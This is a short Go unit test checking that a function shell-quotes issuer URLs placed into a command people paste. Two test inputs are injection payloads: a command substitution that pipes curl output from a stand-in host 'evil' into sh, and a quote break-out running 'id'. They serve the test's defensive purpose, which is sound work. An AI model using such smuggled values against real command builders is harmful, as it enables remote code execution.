package registration

import "testing"

// An issuer is a word of a command that people paste, whatever an API server says that it is.
func TestFrom(t *testing.T) {
	t.Parallel()
	for issuer, want := range map[string]string{
		"https://oidc.example.com/prod-eu1": ` --issuer https://oidc.example.com/prod-eu1`,
		"https://a/$(curl${IFS}evil|sh)":    ` --issuer 'https://a/$(curl${IFS}evil|sh)'`,
		"https://a/';id;'":                  ` --issuer 'https://a/'\'';id;'\'''`,
	} {
		if got := (Wanted{Issuer: issuer}).From(); got != want {
			t.Errorf("%s: %s", issuer, got)
		}
	}
}
